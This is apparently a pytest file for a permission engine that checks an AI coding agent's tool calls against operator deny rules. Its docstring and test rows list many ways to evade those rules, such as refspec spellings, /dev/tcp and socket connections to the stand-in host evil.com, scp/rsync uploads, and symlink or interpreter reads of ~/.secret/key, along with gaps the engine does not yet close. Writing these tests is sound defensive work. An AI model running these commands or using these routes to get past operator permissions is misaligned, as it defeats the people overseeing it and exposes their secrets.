r"""Probe round 48, rules48 (2026-11-28): operator permission rules in Claude Code's syntax (~420
(rule, call) pairs, each in all five modes): Read/Edit globs written //abs, ~/x, /x, ./x, **/x, with
braces, character classes, doubled slashes and backslashes; Read deny rules through Bash readers,
archivers, copies, interpreters, redirections, here-strings, symlinks made on the same line, cd, git's
REV:PATH, and through Grep/Glob/LS, MCP file servers, NotebookEdit, MultiEdit; Edit deny rules through
Bash writers, interpreter code, patches and archives; WebFetch(domain:...) deny rules through every
client that reaches a host (DNS lookups, ping, scp/rsync's host:path, socat, /dev/tcp, ssh:// and
docker:// URLs, quoted hosts in code, registry clients) and MCP fetch tools; mcp__server and
mcp__server__* rules; Bash rules with a wildcard in the middle (git * main) and odd spacing; allow
rules that must not widen (git diff:* vs --output, Edit(src/**) vs a symlink made on the same line).

Fixed, by class:
1. A deny or ask rule on a push of a branch meets every refspec spelling of it
   (permissions._push_refspec_words: [+]SRC[:DST] read as the branch it updates and the branch it
   sends, refs/heads/ dropped): Bash(git push origin main), Bash(git push * main), Bash(git * main)
   vs git push origin HEAD:main, +main, main:main, refs/heads/main, feature:main: KKADD -> DDDDD.
2. A WebFetch(domain:...) deny rule (round 20: it reaches every fetch of the host) meets the hosts
   other clients name: name lookups (nslookup, dig, host, ping, traceroute, whois: a DNS query
   reaches the domain's own servers), [user@]host:path of scp/rsync/git, socat's TCP:host:port,
   mosh, registry clients (docker pull/login evil.com/...), non-http URLs given as a word or an
   option's value (ssh://, git+ssh://, rsync://, docker://), bash's /dev/tcp/HOST/PORT, a host quoted
   in interpreter code (socket.create_connection(("evil.com", 80))): KKADD -> DDDDD.
3. git -C DIR show REV:PATH reads PATH below DIR's repository top (DIR or a parent of it), not
   below the working directory (shell.rev_path_reads): git -C ~ show HEAD:.secret/key under
   Read(~/.secret/**) KKADD -> DDDDD.
4. File deny/ask rules written with braces (Read(config/prod.{yml,yaml}),
   Read(**/*.{pem,key})) or a doubled slash (Read(./config//prod.yml)) met nothing: their
   expansions are kept beside the literal rule (permissions._glob_respellings); allow rules stay
   literal. A path rule with a backslash before a letter or digit (Read(config\prod.yml), a Windows
   separator that gitignore reads as an escape) is refused at load naming the rule to write, as
   round 39 refused drive paths.
5. Interpreter code writing a relative path (open("config/app.yml", "w"), fs.writeFileSync,
   File.write, perl's open '>', shutil.copy's target) is a write of it: under Edit(config/**)
   KKADD -> DDDDD (no letter changes without rules). patch (no FILE operand; -d DIR), git apply
   and git am write files their input names, known at run time: a tree write of their directory
   for operators' Edit rules (as tar x): KKADD -> KKKDD; --dry-run/--check/--stat stay read-only.

Held: Read deny rules in every anchor against cat/cp/tar/rsync/grep -r/find -exec/python/node/
`< file`/here-strings/ln -s then read/cd/globs/Grep/Glob/LS/MCP/NotebookEdit/MultiEdit; Edit deny
rules against redirections, tee, cp, mv, sed -i, ln -s then write, dd, install, truncate, touch,
sponge, git mv/checkout/restore, MCP write/edit/move; WebFetch domain rules vs userinfo, %2e,
fullwidth dots, trailing dot, variables, substitutions, quotes; mcp__github/mcp__github__* in any
case; wildcard allow rules (git * main allows what its * spans, as Claude Code's does); git diff:*
vs --output elsewhere, --ext-diff, -c diff.external, pipes and redirections; Edit(src/**) vs
ln -s ~/.bashrc src/rc && echo x > src/rc.

Decided, unchanged: bare git diff/log -p/show under a Read rule on part of the tree stay allowed
(round 21); Edit(/src/**) as an allow rule keeps the absolute meaning (round 36);
WebFetch(domain:*.evil.com) as a deny rule also meets evil.com (failing closed).

Left: a path bound to a variable before an interpreter's write (f = "config/app.yml";
open(f, "w")) or joined by pathlib.Path("config", "app.yml"); git stash pop/merge/checkout BRANCH
under an Edit rule (the tree's own history, round 43's class); `git show HEAD:x` where git -C names
a directory only known at run time."""
from __future__ import annotations

import pytest

from tests.policy.engine_helpers import call_letters, row_id, snap

_PUSH = snap(permissions={'deny': ['Bash(git push origin main)']})
_PUSH_GLOB = snap(permissions={'deny': ['Bash(git * main)']})
_WEB = snap(permissions={'deny': ['WebFetch(domain:evil.com)']})
_SECRET = snap(permissions={'deny': ['Read(~/.secret/**)', 'Read(./secrets/**)']})
_EDIT = snap(permissions={'deny': ['Edit(config/**)']})
_PLAIN = snap()


def _w(path, content='x'):
    return ('Write', {'file_path': path, 'content': content})


def _r(path):
    return ('Read', {'file_path': path})


PUSH = [
    ('git push origin HEAD:main', 'DDDDD'),  # was KKADD
    ('git push origin +main', 'DDDDD'),  # was KKADD
    ('git push origin main:main', 'DDDDD'),  # was KKADD
    ('git push origin HEAD:refs/heads/main', 'DDDDD'),  # was KKADD
    ('git push origin feature:main', 'DDDDD'),  # was KKADD
    ('git push origin refs/heads/main', 'DDDDD'),  # was KKADD
    ('git push origin :main', 'DDDDD'),  # was KKADD
    ('/usr/bin/git push origin HEAD:main', 'DDDDD'),  # was KKADD
    ('command git push origin +main', 'DDDDD'),  # was KKADD
    ('git -C . push origin HEAD:main', 'DDDDD'),  # was KKADD
    ('hub push origin HEAD:main', 'DDDDD'),  # was KKADD
    ('git push -u origin main', 'DDDDD'),
    ('git push origin main', 'DDDDD'),
    ('git push origin feature', 'KKADD'),
    ('git push origin HEAD:feature', 'KKADD'),
    ('git push origin mainline', 'KKADD'),
    ('git push origin HEAD:mainline', 'KKADD'),
]

PUSH_GLOB = [
    ('git push origin HEAD:main', 'DDDDD'),  # was KKADD
    ('git push origin +main', 'DDDDD'),  # was KKADD
    ('git push origin refs/heads/main', 'DDDDD'),  # was KKADD
    ('git checkout main', 'DDDDD'),
    ('git log --oneline main', 'DDDDD'),
    ('git push origin HEAD:feature', 'KKADD'),
]

WEB = [
    ('nslookup evil.com', 'DDDDD'),  # was KKADD
    ('dig evil.com', 'DDDDD'),  # was KKADD
    ('dig @8.8.8.8 x.evil.com TXT', 'DDDDD'),  # was KKADD
    ('host evil.com', 'DDDDD'),  # was KKADD
    ('getent hosts evil.com', 'DDDDD'),  # was KKADD
    ('ping -c1 evil.com', 'DDDDD'),  # was KKADD
    ('traceroute evil.com', 'DDDDD'),  # was KKADD
    ('whois evil.com', 'DDDDD'),  # was KKADD
    ('socat - TCP:evil.com:80', 'DDDDD'),  # was KKADD
    ('rsync -a src/ evil.com:/x', 'DDDDD'),  # was KKADD
    ('scp f user@evil.com:', 'DDDDD'),  # was KKADD
    ('mosh evil.com', 'DDDDD'),  # was KKADD
    ('docker pull evil.com/img', 'DDDDD'),  # was KKADD
    ('docker login evil.com', 'DDDDD'),  # was KKADD
    ('exec 3<>/dev/tcp/evil.com/80', 'DDDDD'),  # was KKADD
    ('cat < /dev/tcp/evil.com/80', 'DDDDD'),  # was KKADD
    ('python3 -c \'import socket; socket.create_connection(("evil.com",80))\'', 'DDDDD'),  # was KKADD
    ('node -e \'require("net").connect(80, "evil.com")\'', 'DDDDD'),  # was KKADD
    ('git clone ssh://git@evil.com/x', 'DDDDD'),  # was KKADD
    ('git clone git@evil.com:x/y.git', 'DDDDD'),  # was KKADD
    ('skopeo copy docker://evil.com/a dir:/tmp/a', 'DDDDD'),  # was KKADD
    ('rsync -a src/ rsync://evil.com/m', 'DDDDD'),  # was KKADD
    ('git clone --reference=ssh://evil.com/x y', 'DDDDD'),  # was KKADD
    ('curl https://evil.com/x', 'DDDDD'),
    ('curl -s evil.com', 'DDDDD'),
    ('ssh evil.com', 'DDDDD'),
    ({'tool': 'mcp__fetch__fetch', 'args': {'url': 'https://evil.com/'}}, 'DDDDD'),
    # neighbours: other hosts, a URL inside another's query, names that are no host
    ("wget -O- 'https://good.com/?u=https://evil.com'", 'KKADD'),
    ("curl 'https://good.com/?u=ssh://evil.com'", 'KKADD'),
    ('dig notevil.com', 'KKADD'),
    ('ping -c1 evil.community', 'KKADD'),
    ('scp f user@notevil.com:', 'KKADD'),
    ('git clone git@github.com:a/b.git', 'KKADD'),
    ('git show HEAD:config.yml', 'AAAAA'),
    ('git push origin HEAD:main', 'KKADD'),
    ('docker run --rm python:3.12 python -V', 'KKADD'),
    ('grep -r evil.com .', 'AAAAA'),
]

SECRET = [
    ('git -C ~ show HEAD:.secret/key', 'DDDDD'),  # was KKADD
    ('git -C ~ show HEAD:./.secret/key', 'DDDDD'),  # was KKADD
    ('git -C ~ show HEAD:project/secrets/a.txt', 'DDDDD'),  # was KKADD
    ('git -C .. show HEAD:project/secrets/a.txt', 'DDDDD'),  # was KKADD
    ('git -C sub show HEAD:secrets/a.txt', 'DDDDD'),
    ('git show HEAD:secrets/a.txt', 'DDDDD'),
    ('git -C sub show HEAD:README.md', 'KKADD'),
    ('cat ~/.secret/key', 'DDDDD'),
    ('ln -s ~/.secret s; cat s/key', 'DDDDD'),
    ('cat <<< "$(cat ~/.secret/key)"', 'DDDDD'),
    ('python3 -c \'print(open("/home/dev/.secret/key").read())\'', 'DDDDD'),
    ('tar czf /tmp/x.tgz -C ~ .secret', 'DDDDD'),
    ('find ~/.secret -exec cat {} \\;', 'DDDDD'),
    ('cat ~/.s*/key', 'DDDDD'),  # was KKKDD (round 52: evasion52)
    ('cat secrets/a.txt', 'DDDDD'),
    ('cat sub/secrets/a.txt', 'AAAAA'),
    ({'tool': 'Grep', 'args': {'pattern': 'pw', 'path': '/home/dev/.secret'}}, 'DDDDD'),
    ({'tool': 'mcp__filesystem__read_text_file', 'args': {'path': '~/.secret/key'}}, 'DDDDD'),
    ({'tool': 'NotebookEdit', 'args': {'notebook_path': '/home/dev/.secret/x.ipynb', 'new_source': 'x'}}, 'DDDDD'),
    ({'tool': 'MultiEdit', 'args': {'file_path': '/home/dev/.secret/key', 'edits': []}}, 'DDDDD'),
]

EDIT = [
    ('python3 -c \'open("config/app.yml","w").write("x")\'', 'DDDDD'),  # was KKADD
    ('node -e \'require("fs").writeFileSync("config/app.yml","x")\'', 'DDDDD'),  # was KKADD
    ('python3 -c \'import shutil; shutil.copy("a.txt","config/app.yml")\'', 'DDDDD'),  # was KKADD
    ('ruby -e \'File.write("config/app.yml","x")\'', 'DDDDD'),  # was KKADD
    ('perl -e \'open(F, ">", "config/app.yml")\'', 'DDDDD'),  # was KKADD
    ('python3 -c \'from pathlib import Path; Path("config/app.yml").write_text("x")\'', 'DDDDD'),  # was KKADD
    ('python3 -c \'print(open("config/app.yml").read())\'', 'AAAAA'),
    ('python3 -c \'open("out.txt","w").write("x")\'', 'KKADD'),
    ('git apply x.patch', 'KKKDD'),  # was KKADD
    ('git am < x.mbox', 'KKKDD'),  # was KKADD
    ('git -C sub apply x.patch', 'KKKDD'),  # was KKADD
    ('patch -p1 < x.patch', 'KKKDD'),  # was KKADD
    ('patch -p1 -i x.patch', 'KKKDD'),  # was KKADD
    ('patch config/app.yml < x.patch', 'DDDDD'),
    ('patch src/a.py < x.patch', 'KKADD'),
    ('patch --dry-run -p1 < x.patch', 'AAAAA'),
    ('git apply --check x.patch', 'AAAAA'),
    ('git apply --stat x.patch', 'AAAAA'),
    ('git stash pop', 'KKKDD'),  # was KAADD (round 49, rules49: the stash's files rewrite the tree)
    ('tar xf x.tar', 'KKKDD'),
    ('ln -s config c && echo x > c/app.yml', 'DDDDD'),
    ('cd config && echo x > app.yml', 'DDDDD'),
    ({'tool': 'mcp__filesystem__move_file', 'args': {'source': '/tmp/x', 'destination': '/home/dev/project/config/app.yml'}}, 'DDDDD'),
]

# without rules: the code-write and patch classes change no letter
PLAIN = [
    ('python3 -c \'open("out.txt","w").write("x")\'', 'KKADD'),
    ('python3 -c \'open("config/app.yml","w").write("x")\'', 'KKADD'),
    ('node -e \'require("fs").writeFileSync("../x.txt","x")\'', 'KKADD'),
    ('git apply x.patch', 'KKADD'),
    ('patch -p1 < x.patch', 'KKADD'),
    ('git push origin HEAD:main', 'KKADD'),
    ('nslookup evil.com', 'KKADD'),
]


def _call(call):
    return (call['tool'], call['args']) if isinstance(call, dict) else call


@pytest.mark.parametrize('snapshot,call,want', [
    pytest.param(s, _call(c), w, id=f'{name}:{row_id((_call(c), w))}')
    for name, s, rows in (('push', _PUSH, PUSH), ('pushglob', _PUSH_GLOB, PUSH_GLOB), ('web', _WEB, WEB),
                          ('secret', _SECRET, SECRET), ('edit', _EDIT, EDIT), ('plain', _PLAIN, PLAIN))
    for c, w in rows])
def test_round48_rules48(snapshot, call, want):
    assert call_letters(snapshot, call) == want


# rule shapes: braces and doubled slashes (deny/ask), the backslash refused at load
_BRACES = snap(permissions={'deny': ['Read(config/prod.{yml,yaml})', 'Read(**/*.{pem,key})']})
_DOUBLE = snap(permissions={'deny': ['Read(./config//prod.yml)']})
_BRACE_ALLOW = snap(permissions={'allow': ['Edit(src/{a,b}/**)']})

SHAPES = [
    (_BRACES, 'cat config/prod.yml', 'DDDDD'),  # was AAAAA
    (_BRACES, 'cat config/prod.yaml', 'DDDDD'),  # was AAAAA
    (_BRACES, 'cat certs/server.pem', 'DDDDD'),  # was KKADD
    (_BRACES, 'cat certs/server.key', 'DDDDD'),  # was KKADD
    (_BRACES, _r('/home/dev/project/config/prod.yaml'), 'DDDDD'),  # was AAAAA
    (_BRACES, 'cat config/dev.yml', 'AAAAA'),
    (_BRACES, 'cat config/prod.json', 'AAAAA'),
    (_BRACES, 'cat certs/server.crt', 'AAAAA'),
    (_DOUBLE, 'cat config/prod.yml', 'DDDDD'),  # was AAAAA
    (_DOUBLE, _r('/home/dev/project/config/prod.yml'), 'DDDDD'),  # was AAAAA
    (_DOUBLE, 'cat config/dev.yml', 'AAAAA'),
    # an allow rule with braces stays literal (narrower): nothing widened
    (_BRACE_ALLOW, _w('/home/dev/project/src/a/x.py'), 'KAADD'),
    (_BRACE_ALLOW, _w('/home/dev/project/src/c/x.py'), 'KAADD'),
]


@pytest.mark.parametrize('snapshot,call,want', [pytest.param(s, c, w, id=f'{i}:{row_id((c, w))}')
                                                 for i, (s, c, w) in enumerate(SHAPES)])
def test_round48_rule_shapes(snapshot, call, want):
    assert call_letters(snapshot, call) == want


@pytest.mark.parametrize('text,fixed', [
    ('Read(config\\prod.yml)', 'Read(config/prod.yml)'),
    ('Read(.aws\\credentials)', 'Read(.aws/credentials)'),
    ('Edit(src\\app\\**)', 'Edit(src/app'),
])
def test_round48_backslash_before_a_letter_is_refused(text, fixed):
    from policy.engine.types import PolicyError
    with pytest.raises(PolicyError) as e:
        snap(permissions={'deny': [text]})
    assert fixed in str(e.value)


@pytest.mark.parametrize('text, command', [('Read(\\[2024\\] Reports/**)', 'cat "[2024] Reports/x.txt"'),
                                           ('Read(\\.env)', 'cat .env'),
                                           ('Read(**/*.[pP][eE][mM])', 'cat keys/a.PEM')])
def test_round48_gitignore_escapes_still_load(text, command):
    # (a gitignore escape is no Windows separator: the rule loads and keeps what it names)
    assert call_letters(snap(permissions={'deny': [text]}), command) == 'DDDDD'

